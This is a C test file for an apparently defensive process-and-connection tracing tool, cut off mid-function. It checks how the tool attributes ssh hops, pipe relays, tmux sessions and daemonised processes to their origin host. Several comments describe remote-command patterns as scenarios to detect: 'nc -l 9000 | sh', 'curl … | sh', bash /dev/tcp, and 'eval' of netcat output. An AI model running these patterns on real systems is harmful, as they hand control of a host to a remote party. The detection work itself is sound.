/*
 * graph_test.c — the host model and the chain computation, driven by records
 * alone (no /proc, no sock_diag): pid reuse, re-parenting, retention and
 * max_procs bounds, and the chain outcomes of docs/chain-model.md that can be
 * expressed on one host.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <signal.h>
#include <stdlib.h>
#include <stddef.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/stat.h>
#include <time.h>
#include <sys/wait.h>
#include <unistd.h>

#include "../../collector/answer.h"
#include "../../collector/chain.h"
#include "../../collector/graph.h"
#include "hoptrace/chain.h"
#include "hoptrace/sockdiag.h"
#include "rec_fixture.h"
#include "test.h"

#define SEC 1000000000ULL

static struct graph *mk(uint64_t retention_s, size_t max_procs)
{
	struct graph_conf c = {.retention_ns = retention_s * SEC, .window_ns = 60 * SEC,
			       .max_procs = max_procs, .use_procfs = 0};
	return graph_new(&c);
}

#define R rec_blank

static void ok(struct graph *g, pid_t pid, struct ht_record r)
{
	const char *why = NULL;
	int rc = graph_apply(g, pid, 0, &r, r.ts, &why);
	if (rc)
		fprintf(stderr, "    apply %s for pid %d: %s\n", ht_rec_type_name(r.type), pid, why);
	CHECK_EQ_INT(rc, 0);
}

static void image(struct graph *g, pid_t pid, pid_t ppid, const char *exe, uint64_t ts)
{
	struct ht_record r = R(HT_REC_IMAGE, ts);
	r.num = ppid;
	snprintf(r.str, sizeof(r.str), "%s", exe);
	const char *b = strrchr(exe, '/');
	snprintf(r.str2, sizeof(r.str2), "%s", b ? b + 1 : exe);
	ok(g, pid, r);
}

static void birth(struct graph *g, pid_t pid, pid_t creator, uint64_t ts)
{
	struct ht_record r = R(HT_REC_BIRTH, ts);
	r.num = creator;
	r.ts2 = ts;
	ok(g, pid, r);
}

static void v4(struct ht_addr *a, const char *ip, uint16_t port)
{
	memset(a, 0, sizeof(*a));
	a->family = AF_INET;
	a->len = 4;
	inet_pton(AF_INET, ip, a->a);
	a->port = port;
}

static void accept_tcp(struct graph *g, pid_t pid, int fd, uint64_t ino, const char *from,
		       uint16_t fport, uint64_t ts)
{
	struct ht_record r = R(HT_REC_ACCEPT, ts);
	r.fd = fd;
	r.chan = (struct ht_chan){HT_CHAN_SOCK, 0, ino};
	r.chan2 = (struct ht_chan){HT_CHAN_SOCK, 0, ino + 100000};
	r.num = 1;
	v4(&r.addr, "10.250.0.2", 22);
	v4(&r.addr2, from, fport);
	ok(g, pid, r);
}

static void connect_tcp(struct graph *g, pid_t pid, int fd, uint64_t ino, const char *to,
			uint16_t port, uint64_t ts)
{
	struct ht_record r = R(HT_REC_CONNECT, ts);
	r.fd = fd;
	r.chan = (struct ht_chan){HT_CHAN_SOCK, 0, ino};
	r.num = 1;
	v4(&r.addr, to, port);
	ok(g, pid, r);
}

static void pty(struct graph *g, pid_t pid, int mfd, int sfd, uint64_t idx, uint64_t ts)
{
	struct ht_record r = R(HT_REC_PTY, ts);
	r.fd = mfd;
	r.fd2 = sfd;
	r.chan = (struct ht_chan){HT_CHAN_PTY, 0, idx};
	ok(g, pid, r);
}

static void fdop(struct graph *g, pid_t pid, int type, int fd, int fd2, uint64_t ts)
{
	struct ht_record r = R(type, ts);
	r.fd = fd;
	r.fd2 = fd2;
	ok(g, pid, r);
}

static void fdrecv(struct graph *g, pid_t pid, int fd, struct ht_chan c, uint64_t ts)
{
	struct ht_record r = R(HT_REC_FDRECV, ts);
	r.fd = fd;
	r.chan = c;
	r.chan2 = (struct ht_chan){HT_CHAN_SOCK, 0, 424242};
	ok(g, pid, r);
}

/* A pipeline side: pid is born of creator at ts with the creator's pipe on
 * fds 3 (read) and 4 (write), moves end `from` to `to` (0 or 1) and closes
 * 3 and 4 (ts + 1), then runs exe (ts + 2; none if NULL). */
static void pipe_child(struct graph *g, pid_t pid, pid_t creator, int from, int to,
		       const char *exe, uint64_t ts)
{
	birth(g, pid, creator, ts);
	fdop(g, pid, HT_REC_DUP, from, to, ts + 1);
	fdop(g, pid, HT_REC_CLOSE, 3, 0, ts + 1);
	fdop(g, pid, HT_REC_CLOSE, 4, 0, ts + 1);
	if (exe)
		image(g, pid, creator, exe, ts + 2);
}

/* pid is born of creator at ts, runs exe (ts + 1) and connects on fd 3 to
 * 198.51.100.3:22 (ts + 2) with socket inode ino: the SYN a chain is asked of */
static void onward(struct graph *g, pid_t pid, pid_t creator, const char *exe, uint64_t ino,
		   uint64_t ts)
{
	birth(g, pid, creator, ts);
	image(g, pid, creator, exe, ts + 1);
	connect_tcp(g, pid, 3, ino, "198.51.100.3", 22, ts + 2);
}

/* Computes the chain of pid (excluding socket ino `syn`) and returns it. */
static cJSON *chain_of(struct graph *g, pid_t pid, uint64_t syn, uint64_t now)
{
	struct chain_req req = {.host = "h2", .subject = graph_proc(g, pid),
				.exclude = syn ? graph_chan(g, HT_CHAN_SOCK, 0, syn) : NULL,
				.now = now, .nl = -1};
	CHECK(req.subject != NULL);
	if (!req.subject)
		return NULL;
	return chain_compute(g, &req);
}

/* "origin:exe,exe,..." for every chain, sorted by origin, joined by " | " */
static void chains_str(cJSON *a, char *out, size_t n)
{
	char items[8][512];
	int k = 0;
	cJSON *ch;
	out[0] = 0;
	cJSON_ArrayForEach(ch, cJSON_GetObjectItem(a, "chains"))
	{
		if (k == 8)
			break;
		char *s = items[k];
		size_t used = (size_t)snprintf(s, 512, "%s:",
					       cJSON_GetObjectItem(ch, "origin_host")->valuestring);
		cJSON *p;
		int first = 1;
		cJSON_ArrayForEach(p, cJSON_GetObjectItem(ch, "procs"))
		{
			const char *exe = cJSON_GetObjectItem(p, "exe")->valuestring;
			const char *b = strrchr(exe, '/');
			used += (size_t)snprintf(s + used, 512 - used, "%s%s", first ? "" : ",",
						 b ? b + 1 : exe);
			first = 0;
		}
		k++;
	}
	/* sort for a stable comparison */
	for (int i = 0; i < k; i++)
		for (int j = i + 1; j < k; j++)
			if (strcmp(items[i], items[j]) > 0) {
				char t[512];
				memcpy(t, items[i], 512);
				memcpy(items[i], items[j], 512);
				memcpy(items[j], t, 512);
			}
	for (int i = 0; i < k; i++) {
		size_t l = strlen(out);
		snprintf(out + l, n - l, "%s%s", i ? " | " : "", items[i]);
	}
}

#define CHECK_CHAINS(g, pid, syn, now, expect)                         \
	do {                                                           \
		cJSON *_c = chain_of(g, pid, syn, now);                \
		char _s[2048] = "";                                    \
		if (_c)                                                \
			chains_str(_c, _s, sizeof(_s));                \
		CHECK_EQ_STR(_s, expect);                              \
		if (strcmp(_s, expect) != 0 && _c) {                   \
			char *_t = cJSON_Print(cJSON_GetObjectItem(_c, "tree")); \
			fprintf(stderr, "%s\n", _t);                  \
			free(_t);                                      \
		}                                                      \
		cJSON_Delete(_c);                                      \
	} while (0)

/* An ssh session into h2: listener sshd 10 accepts from origin, forks session
 * sshd 11 (inherits the socket), which allocates pty 3 and forks bash 12. */
static void session(struct graph *g, pid_t base, const char *origin, uint64_t ino, uint64_t ptyidx,
		    uint64_t t)
{
	pid_t sshd = base, bash = base + 1;
	accept_tcp(g, 10, 4, ino, origin, 50000, t);
	birth(g, sshd, 10, t + 1);
	fdop(g, 10, HT_REC_CLOSE, 4, 0, t + 2);
	pty(g, sshd, 5, 6, ptyidx, t + 3);
	birth(g, bash, sshd, t + 4);
	fdop(g, bash, HT_REC_DUP, 6, 0, t + 5);
	fdop(g, bash, HT_REC_CLOSE, 4, 0, t + 6);
	fdop(g, bash, HT_REC_CLOSE, 5, 0, t + 6);
	fdop(g, bash, HT_REC_CLOSE, 6, 0, t + 6);
	image(g, bash, sshd, "/usr/bin/bash", t + 7);
}

static void test_ssh_then_ssh(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 10, 1, "/usr/sbin/sshd", 1 * SEC);
	session(g, 11, "192.0.2.1", 1000, 3, 2 * SEC);
	onward(g, 13, 12, "/usr/bin/ssh", 2000, 3 * SEC);
	CHECK_CHAINS(g, 13, 2000, 4 * SEC, "192.0.2.1:sshd,sshd,bash,ssh");
	graph_free(g);
}

/* a conn leaf filled with the far host's answer: its chains continue here */
static cJSON *find_conn(cJSON *n)
{
	const cJSON *t = cJSON_GetObjectItem(n, "type");
	if (t && strcmp(t->valuestring, "conn") == 0)
		return n;
	cJSON *s;
	cJSON_ArrayForEach(s, cJSON_GetObjectItem(n, "sources"))
	{
		cJSON *c = find_conn(cJSON_GetObjectItem(s, "node"));
		if (c)
			return c;
	}
	return NULL;
}

static void test_reflatten_upstream(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 10, 1, "/usr/sbin/sshd", 1 * SEC);
	session(g, 11, "192.0.2.1", 1000, 3, 2 * SEC);
	onward(g, 13, 12, "/usr/bin/ssh", 2000, 3 * SEC);
	cJSON *a = chain_of(g, 13, 2000, 4 * SEC);
	cJSON *conn = a ? find_conn(cJSON_GetObjectItem(a, "tree")) : NULL;
	CHECK(conn != NULL);
	if (conn) {
		cJSON *up = cJSON_Parse("{\"ok\":true,\"host\":\"h1\",\"chains\":[{\"origin_host\":\"h1\","
					"\"src\":\"192.0.2.1:50000\",\"complete\":true,\"fallback\":false,"
					"\"procs\":[{\"host\":\"h1\",\"pid\":5,\"exe\":\"/usr/bin/ssh\"}]}]}");
		cJSON_ReplaceItemInObject(conn, "upstream", up);
		CHECK_EQ_INT(chain_reflatten(a), 0);
		char s[512];
		chains_str(a, s, sizeof(s));
		CHECK_EQ_STR(s, "h1:ssh,sshd,sshd,bash,ssh");
		cJSON *ch = cJSON_GetArrayItem(cJSON_GetObjectItem(a, "chains"), 0);
		CHECK(cJSON_IsTrue(cJSON_GetObjectItem(ch, "complete")));
		CHECK_EQ_STR(cJSON_GetObjectItem(ch, "src")->valuestring, "192.0.2.1:50000");
	}
	cJSON_Delete(a);
	graph_free(g);
}

/* pipe relay: bash makes a pipe, forks nc -l (writer) and nc (reader);
 * the reader's chain goes through the pipe to the listener's accepted
 * connection (a second origin connection) and through lineage to the session */
static void test_pipe_relay(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 10, 1, "/usr/sbin/sshd", 1 * SEC);
	session(g, 11, "192.0.2.1", 1000, 3, 2 * SEC);
	struct ht_record p = R(HT_REC_PIPE, 3 * SEC);
	p.fd = 3;
	p.fd2 = 4;
	p.chan = (struct ht_chan){HT_CHAN_PIPE, 12, 777};
	ok(g, 12, p);
	pipe_child(g, 20, 12, 4, 1, "/usr/bin/nc.openbsd", 3 * SEC + 1);
	pipe_child(g, 21, 12, 3, 0, "/usr/bin/nc.openbsd", 3 * SEC + 4);
	fdop(g, 12, HT_REC_CLOSE, 3, 0, 3 * SEC + 7);
	fdop(g, 12, HT_REC_CLOSE, 4, 0, 3 * SEC + 7);
	/* nc -l accepts a connection from the origin (a second connection) */
	struct ht_record a = R(HT_REC_ACCEPT, 4 * SEC);
	a.fd = 5;
	a.chan = (struct ht_chan){HT_CHAN_SOCK, 0, 3000};
	a.chan2 = (struct ht_chan){HT_CHAN_SOCK, 0, 3001};
	v4(&a.addr, "10.250.0.2", 9000);
	v4(&a.addr2, "192.0.2.1", 40000);
	ok(g, 20, a);
	connect_tcp(g, 21, 4, 3002, "198.51.100.3", 22, 4 * SEC + 1);
	CHECK_CHAINS(g, 21, 3002, 5 * SEC,
		     "192.0.2.1:nc.openbsd,nc.openbsd | 192.0.2.1:sshd,sshd,bash,nc.openbsd");
	graph_free(g);
}

/* tmux: client (from session 1) forks a server that daemonises (drops its fds);
 * the pane shell is the server's child on pty 7. Later session 1's client
 * detaches and a client from session 2 attaches: the server receives that
 * client's tty by SCM_RIGHTS. A connection from the pane has two origins. */
static void test_tmux_reattach(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 10, 1, "/usr/sbin/sshd", 1 * SEC);
	session(g, 11, "192.0.2.1", 1000, 3, 2 * SEC);
	birth(g, 30, 12, 3 * SEC);
	image(g, 30, 12, "/usr/bin/tmux", 3 * SEC + 1); /* client 1 */
	birth(g, 31, 30, 3 * SEC + 2);                   /* server, daemon() */
	fdop(g, 31, HT_REC_CLOSERANGE, 0, 2, 3 * SEC + 3);
	fdrecv(g, 31, 8, (struct ht_chan){HT_CHAN_PTY, 0, 3}, 3 * SEC + 4);
	pty(g, 31, 9, -1, 7, 3 * SEC + 5);
	birth(g, 32, 31, 3 * SEC + 6); /* pane shell */
	fdop(g, 32, HT_REC_CLOSERANGE, 0, 100, 3 * SEC + 7);
	struct ht_record o = R(HT_REC_OPEN, 3 * SEC + 8);
	o.fd = 0;
	o.chan = (struct ht_chan){HT_CHAN_PTY, 0, 7};
	ok(g, 32, o);
	image(g, 32, 31, "/usr/bin/bash", 3 * SEC + 9);
	/* detach: client 1 exits, server closes its tty */
	fdop(g, 31, HT_REC_CLOSE, 8, 0, 4 * SEC);
	struct ht_record ex = R(HT_REC_EXIT, 4 * SEC + 1);
	ok(g, 30, ex);
	/* session 2 from another origin, client 2 attaches */
	session(g, 41, "192.0.2.4", 1100, 5, 5 * SEC);
	birth(g, 50, 42, 6 * SEC);
	image(g, 50, 42, "/usr/bin/tmux", 6 * SEC + 1);
	fdrecv(g, 31, 8, (struct ht_chan){HT_CHAN_PTY, 0, 5}, 6 * SEC + 2);
	/* ssh from the pane */
	onward(g, 60, 32, "/usr/bin/ssh", 4000, 7 * SEC);
	CHECK_CHAINS(g, 60, 4000, 8 * SEC,
		     "192.0.2.1:sshd,sshd,bash,tmux,tmux,bash,ssh | "
		     "192.0.2.4:sshd,sshd,bash,tmux,tmux,bash,ssh");
	graph_free(g);
}

/* two sessions from different origins: a connection from one names only it */
static void test_no_spurious_origin(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 10, 1, "/usr/sbin/sshd", 1 * SEC);
	session(g, 11, "192.0.2.1", 1000, 3, 2 * SEC);
	session(g, 21, "192.0.2.4", 1100, 4, 2 * SEC + 100);
	onward(g, 30, 22, "/usr/bin/nc.openbsd", 5000, 3 * SEC);
	CHECK_CHAINS(g, 30, 5000, 4 * SEC, "192.0.2.4:sshd,sshd,bash,nc.openbsd");
	graph_free(g);
}

/* a setsid'd, re-parented process keeps its creator after the session ends */
static void test_daemonised_after_session(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 10, 1, "/usr/sbin/sshd", 1 * SEC);
	session(g, 11, "192.0.2.1", 1000, 3, 2 * SEC);
	birth(g, 70, 12, 3 * SEC);
	fdop(g, 70, HT_REC_CLOSERANGE, 0, 2, 3 * SEC + 1); /* nohup, redirections */
	image(g, 70, 1, "/usr/bin/dash", 3 * SEC + 2);    /* re-parented before exec */
	/* the session ends */
	ok(g, 12, R(HT_REC_EXIT, 4 * SEC));
	ok(g, 11, R(HT_REC_EXIT, 4 * SEC + 1));
	onward(g, 71, 70, "/usr/bin/nc.openbsd", 6000, 8 * SEC);
	CHECK_CHAINS(g, 71, 6000, 9 * SEC, "192.0.2.1:sshd,sshd,bash,dash,nc.openbsd");
	graph_free(g);
}

/* setsid/daemon(): the parent exits right after forking, and its EXIT is
 * processed before the child's BIRTH — the child still has its creator */
static void test_creator_ended_before_birth_seen(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 10, 1, "/usr/sbin/sshd", 1 * SEC);
	session(g, 11, "192.0.2.1", 1000, 3, 2 * SEC);
	birth(g, 70, 12, 3 * SEC);                 /* setsid, forked by bash */
	ok(g, 70, R(HT_REC_EXIT, 3 * SEC + 50));    /* setsid's parent half exits */
	struct ht_record b = R(HT_REC_BIRTH, 3 * SEC + 100);
	b.num = 70;
	b.ts2 = 3 * SEC + 10;                       /* forked before that exit */
	ok(g, 71, b);
	CHECK(graph_proc(g, 71) && graph_proc(g, 71)->creator == graph_proc(g, 70));
	image(g, 71, 1, "/usr/bin/nc.openbsd", 3 * SEC + 200);
	connect_tcp(g, 71, 3, 6100, "198.51.100.3", 22, 3 * SEC + 300);
	CHECK_CHAINS(g, 71, 6100, 4 * SEC, "192.0.2.1:sshd,sshd,bash,bash,nc.openbsd");
	graph_free(g);
}

static void mkpipe(struct graph *g, pid_t pid, int rfd, int wfd, uint64_t ino, uint64_t ts)
{
	struct ht_record p = R(HT_REC_PIPE, ts);
	p.fd = rfd;
	p.fd2 = wfd;
	p.chan = (struct ht_chan){HT_CHAN_PIPE, 12, ino};
	ok(g, pid, p);
}

/* a forking listener keeps a pipe to each child (sshd's startup pipes): a
 * session's chain must not pick up the other sessions through it */
static void test_hub_children_not_sources(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 10, 1, "/usr/sbin/sshd", 1 * SEC);
	/* session B first: the listener keeps the read end of B's pipe */
	mkpipe(g, 10, 7, 8, 900, 2 * SEC);
	session(g, 21, "192.0.2.4", 1100, 4, 2 * SEC + 10);
	fdop(g, 22, HT_REC_CLOSE, 7, 0, 2 * SEC + 15);
	fdop(g, 22, HT_REC_CLOSE, 8, 0, 2 * SEC + 15);
	fdop(g, 10, HT_REC_CLOSE, 8, 0, 2 * SEC + 20); /* listener keeps fd 7 (R) */
	fdop(g, 21, HT_REC_CLOSE, 7, 0, 2 * SEC + 20); /* child keeps fd 8 (W) */
	/* then session A, whose sshd closes the other sessions' pipes at once */
	accept_tcp(g, 10, 4, 1000, "192.0.2.1", 50000, 3 * SEC);
	birth(g, 11, 10, 3 * SEC + 1);
	fdop(g, 10, HT_REC_CLOSE, 4, 0, 3 * SEC + 2);
	fdop(g, 11, HT_REC_CLOSE, 7, 0, 3 * SEC + 2);
	pty(g, 11, 5, 6, 3, 3 * SEC + 3);
	birth(g, 12, 11, 3 * SEC + 4);
	fdop(g, 12, HT_REC_DUP, 6, 0, 3 * SEC + 5);
	fdop(g, 12, HT_REC_CLOSERANGE, 3, 100, 3 * SEC + 6);
	image(g, 12, 11, "/usr/bin/bash", 3 * SEC + 7);
	onward(g, 30, 12, "/usr/bin/nc.openbsd", 5000, 4 * SEC);
	/* the listener, reached through lineage, still reads B's pipe: B's sshd is
	 * its child, so not a source */
	CHECK_CHAINS(g, 30, 5000, 5 * SEC, "192.0.2.1:sshd,sshd,bash,nc.openbsd");
	graph_free(g);
}

/* data flows from a pipe's write end to its read end: a shell that keeps the
 * same read end as its child is not the child's source; nor are processes
 * sharing a pty slave */
static void test_same_end_not_sources(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 40, 1, "/usr/bin/dash", 1 * SEC);
	/* the shell connects somewhere (it would be an origin if it fed nc) */
	connect_tcp(g, 40, 9, 6000, "203.0.113.5", 80, 1 * SEC + 1);
	mkpipe(g, 40, 3, 4, 901, 2 * SEC);
	fdop(g, 40, HT_REC_CLOSE, 4, 0, 2 * SEC + 1); /* shell keeps only the read end */
	birth(g, 41, 40, 3 * SEC);
	fdop(g, 41, HT_REC_CLOSE, 9, 0, 3 * SEC + 1);
	image(g, 41, 40, "/usr/bin/nc.openbsd", 3 * SEC + 2);
	connect_tcp(g, 41, 5, 6001, "198.51.100.3", 22, 3 * SEC + 3);
	/* the shell is nc's creator, so its connection is a source through
	 * lineage; but not through the pipe they both read */
	cJSON *a = chain_of(g, 41, 6001, 4 * SEC);
	char *t = cJSON_PrintUnformatted(cJSON_GetObjectItem(a, "tree"));
	CHECK(strstr(t, "\"via\":\"pipe\"") == NULL);
	free(t);
	cJSON_Delete(a);
	/* two slaves of one pty: a sibling job is not a source */
	image(g, 50, 1, "/usr/sbin/sshd", 5 * SEC);
	accept_tcp(g, 50, 4, 7000, "192.0.2.1", 40000, 5 * SEC + 1);
	pty(g, 50, 5, 6, 9, 5 * SEC + 2);
	fdop(g, 50, HT_REC_CLOSE, 6, 0, 5 * SEC + 3);
	image(g, 60, 1, "/usr/bin/other", 6 * SEC); /* unrelated, opens the slave */
	connect_tcp(g, 60, 3, 7001, "192.0.2.99", 443, 6 * SEC + 1);
	struct ht_record o = R(HT_REC_OPEN, 6 * SEC + 2);
	o.fd = 4;
	o.chan = (struct ht_chan){HT_CHAN_PTY, 0, 9};
	ok(g, 60, o);
	image(g, 61, 1, "/usr/bin/ssh", 7 * SEC);
	o.ts = 7 * SEC + 1;
	o.fd = 0;
	ok(g, 61, o);
	connect_tcp(g, 61, 3, 7002, "198.51.100.3", 22, 7 * SEC + 2);
	CHECK_CHAINS(g, 61, 7002, 8 * SEC, "192.0.2.1:sshd,ssh");
	graph_free(g);
}

/* recent history: connect to a controller, read, close, then connect out */
static void test_recent_history(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 80, 1, "/usr/local/bin/rat", 1 * SEC);
	connect_tcp(g, 80, 3, 7000, "192.0.2.9", 9000, 2 * SEC);
	fdop(g, 80, HT_REC_CLOSE, 3, 0, 3 * SEC);
	connect_tcp(g, 80, 3, 7001, "198.51.100.3", 22, 4 * SEC);
	CHECK_CHAINS(g, 80, 7001, 5 * SEC, "192.0.2.9:rat");
	/* outside the 60 s window the history no longer counts: local origin */
	CHECK_CHAINS(g, 80, 7001, 100 * SEC, "h2:rat");
	graph_free(g);
}

/* `nc -l 9000 | sh` on h2: the controller sends a command and hangs up, the
 * listener nc exits; then sh runs `nc h3 22`. The writer that let go of the
 * pipe still fed sh — within the window. */
static void test_departed_feeder(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 40, 1, "/usr/bin/dash", 1 * SEC); /* the shell that built the pipeline */
	mkpipe(g, 40, 3, 4, 950, 2 * SEC);
	pipe_child(g, 41, 40, 4, 1, "/usr/bin/nc.openbsd", 2 * SEC + 1); /* nc -l: stdout */
	pipe_child(g, 42, 40, 3, 0, "/usr/bin/sh", 2 * SEC + 4);        /* sh: stdin */
	fdop(g, 40, HT_REC_CLOSE, 3, 0, 2 * SEC + 7);
	fdop(g, 40, HT_REC_CLOSE, 4, 0, 2 * SEC + 7);
	struct ht_record a = R(HT_REC_ACCEPT, 3 * SEC);
	a.fd = 5;
	a.chan = (struct ht_chan){HT_CHAN_SOCK, 0, 3100};
	a.chan2 = (struct ht_chan){HT_CHAN_SOCK, 0, 3101};
	v4(&a.addr, "10.250.0.2", 9000);
	v4(&a.addr2, "192.0.2.9", 40000);
	ok(g, 41, a);
	/* the controller hung up: nc closes the connection, then exits */
	fdop(g, 41, HT_REC_CLOSE, 5, 0, 4 * SEC);
	ok(g, 41, R(HT_REC_EXIT, 4 * SEC + 1));
	onward(g, 43, 42, "/usr/bin/nc.openbsd", 3102, 5 * SEC);
	CHECK_CHAINS(g, 43, 3102, 6 * SEC, "192.0.2.9:nc.openbsd,sh,nc.openbsd");
	/* the same command run after the window: the listener no longer counts */
	onward(g, 44, 42, "/usr/bin/nc.openbsd", 3103, 70 * SEC);
	CHECK_CHAINS(g, 44, 3103, 71 * SEC, "h2:nc.openbsd");
	graph_free(g);
}

/* a shell reads its orders over a connection it then closes (bash's
 * /dev/tcp), and a child it starts connects out: the creator's recent history
 * at the child's birth is a source. A server that accepted two clients is a
 * hub: its closed connections are not its children's sources. */
static void test_creator_history(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 50, 1, "/usr/bin/bash", 1 * SEC);
	connect_tcp(g, 50, 3, 3200, "192.0.2.9", 4444, 2 * SEC);
	fdop(g, 50, HT_REC_CLOSE, 3, 0, 3 * SEC);
	onward(g, 51, 50, "/usr/bin/nc.openbsd", 3201, 4 * SEC);
	CHECK_CHAINS(g, 51, 3201, 5 * SEC, "192.0.2.9:bash,nc.openbsd");
	/* a child born after the window */
	onward(g, 52, 50, "/usr/bin/nc.openbsd", 3202, 70 * SEC);
	CHECK_CHAINS(g, 52, 3202, 71 * SEC, "h2:nc.openbsd");
	/* a hub: two clients served and closed, then a job of its own */
	image(g, 60, 1, "/usr/sbin/server", 1 * SEC);
	accept_tcp(g, 60, 4, 3300, "192.0.2.1", 50001, 2 * SEC);
	fdop(g, 60, HT_REC_CLOSE, 4, 0, 2 * SEC + 1);
	accept_tcp(g, 60, 4, 3302, "192.0.2.4", 50002, 3 * SEC);
	fdop(g, 60, HT_REC_CLOSE, 4, 0, 3 * SEC + 1);
	onward(g, 61, 60, "/usr/bin/job", 3304, 4 * SEC);
	CHECK_CHAINS(g, 61, 3304, 5 * SEC, "h2:job");
	/* the hub as the subject: its history counts (the safe side) */
	connect_tcp(g, 60, 5, 3305, "198.51.100.3", 22, 4 * SEC + 3);
	CHECK_CHAINS(g, 60, 3305, 5 * SEC, "192.0.2.1:server | 192.0.2.4:server");
	graph_free(g);
}

/* `c=$(nc H1 9000); eval "$c"`: the shell keeps the read end of its child's
 * pipe until the child is done, then runs what it read. A shell that only built
 * a pipeline between two children (`curl … | sh`) let go of the pipe at once:
 * what runs next from it has no origin through that pipe. */
static void test_creator_reads_child(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 70, 1, "/usr/bin/dash", 1 * SEC);
	mkpipe(g, 70, 3, 4, 960, 2 * SEC);
	pipe_child(g, 71, 70, 4, 1, "/usr/bin/nc.openbsd", 2 * SEC + 1);
	fdop(g, 70, HT_REC_CLOSE, 4, 0, 2 * SEC + 3);
	connect_tcp(g, 71, 5, 3400, "192.0.2.9", 9000, 2 * SEC + 4);
	fdop(g, 71, HT_REC_CLOSE, 5, 0, 3 * SEC);
	ok(g, 71, R(HT_REC_EXIT, 3 * SEC + 1));
	fdop(g, 70, HT_REC_CLOSE, 3, 0, 3 * SEC + 2); /* EOF: the shell is done reading */
	onward(g, 72, 70, "/usr/bin/nc.openbsd", 3401, 4 * SEC);
	CHECK_CHAINS(g, 72, 3401, 5 * SEC, "192.0.2.9:nc.openbsd,dash,nc.openbsd");

	image(g, 80, 1, "/usr/bin/bash", 1 * SEC);
	mkpipe(g, 80, 3, 4, 961, 2 * SEC);
	pipe_child(g, 81, 80, 4, 1, "/usr/bin/curl", 2 * SEC + 1); /* curl: stdout */
	pipe_child(g, 82, 80, 3, 0, "/usr/bin/dash", 2 * SEC + 4); /* sh: stdin */
	fdop(g, 80, HT_REC_CLOSE, 4, 0, 2 * SEC + 7);
	fdop(g, 80, HT_REC_CLOSE, 3, 0, 2 * SEC + 7);
	connect_tcp(g, 81, 5, 3500, "192.0.2.7", 80, 2 * SEC + 8);
	fdop(g, 81, HT_REC_CLOSE, 5, 0, 3 * SEC);
	ok(g, 81, R(HT_REC_EXIT, 3 * SEC + 1));
	ok(g, 82, R(HT_REC_EXIT, 3 * SEC + 2));
	onward(g, 83, 80, "/usr/bin/ssh", 3501, 4 * SEC);
	CHECK_CHAINS(g, 83, 3501, 5 * SEC, "h2:ssh");
	graph_free(g);
}

/* `printf … | sh` with a writer that was quicker than the fork of its reader:
 * curl wrote its answer into the pipe and exited before dash forked sh; what
 * it wrote waited in the pipe, held by dash, until sh read it. sh's inherited
 * fd continues dash's hold (dash let go of the pipe after forking sh), so
 * curl, gone before sh was born, still fed it (chain.c held_since). */
static void test_writer_before_reader(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 140, 1, "/usr/bin/dash", 1 * SEC);
	mkpipe(g, 140, 3, 4, 995, 2 * SEC);
	pipe_child(g, 141, 140, 4, 1, "/usr/bin/curl", 2 * SEC + 1);
	connect_tcp(g, 141, 5, 3950, "192.0.2.17", 80, 2 * SEC + 4);
	fdop(g, 141, HT_REC_CLOSE, 5, 0, 2 * SEC + 5);
	ok(g, 141, R(HT_REC_EXIT, 2 * SEC + 6));
	pipe_child(g, 142, 140, 3, 0, "/usr/bin/dash", 2 * SEC + 10); /* sh: after curl ended */
	fdop(g, 140, HT_REC_CLOSE, 4, 0, 2 * SEC + 12);
	fdop(g, 140, HT_REC_CLOSE, 3, 0, 2 * SEC + 12);
	onward(g, 143, 142, "/usr/bin/nc.openbsd", 3951, 4 * SEC);
	CHECK_CHAINS(g, 143, 3951, 5 * SEC, "192.0.2.17:curl,dash,nc.openbsd");
	graph_free(g);
}

/* what must not become an origin through a creator's history: a terminal
 * server's status-line job (`#(curl …)` in tmux: the server holds pty masters,
 * a hub), and a prompt's `$(curl …)` long (> 5 s) before the user's command */
static void test_creator_history_limits(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 100, 1, "/usr/bin/tmux", 1 * SEC);
	pty(g, 100, 5, -1, 7, 1 * SEC + 1);
	mkpipe(g, 100, 3, 4, 980, 2 * SEC);
	pipe_child(g, 101, 100, 4, 1, "/usr/bin/curl", 2 * SEC + 1);
	fdop(g, 100, HT_REC_CLOSE, 4, 0, 2 * SEC + 3);
	connect_tcp(g, 101, 6, 3700, "203.0.113.5", 443, 2 * SEC + 4);
	fdop(g, 101, HT_REC_CLOSE, 6, 0, 3 * SEC);
	ok(g, 101, R(HT_REC_EXIT, 3 * SEC + 1));
	fdop(g, 100, HT_REC_CLOSE, 3, 0, 3 * SEC + 2);
	onward(g, 102, 100, "/usr/bin/ssh", 3701, 4 * SEC);
	CHECK_CHAINS(g, 102, 3701, 5 * SEC, "h2:ssh");

	image(g, 110, 1, "/usr/bin/bash", 1 * SEC);
	mkpipe(g, 110, 3, 4, 981, 2 * SEC);
	pipe_child(g, 111, 110, 4, 1, "/usr/bin/curl", 2 * SEC + 1);
	fdop(g, 110, HT_REC_CLOSE, 4, 0, 2 * SEC + 3);
	connect_tcp(g, 111, 6, 3710, "203.0.113.5", 443, 2 * SEC + 4);
	fdop(g, 111, HT_REC_CLOSE, 6, 0, 3 * SEC);
	ok(g, 111, R(HT_REC_EXIT, 3 * SEC + 1));
	fdop(g, 110, HT_REC_CLOSE, 3, 0, 3 * SEC + 2);
	onward(g, 112, 110, "/usr/bin/ssh", 3711, 20 * SEC);
	CHECK_CHAINS(g, 112, 3711, 21 * SEC, "h2:ssh");
	graph_free(g);
}

/* `while read h; do nc -d $h 22; done < <(curl …)`: the shell reads its own
 * child's output through a pipe it still holds. Known miss: a process reached
 * on the way is not fed by its descendants through a live channel (an sshd
 * listener seen only from /proc cannot be told from a shell), so the chain is
 * local; this test pins that down until the model can tell them apart. */
static void test_reads_child_live(void)
{
	struct graph *g = mk(600, 1000);
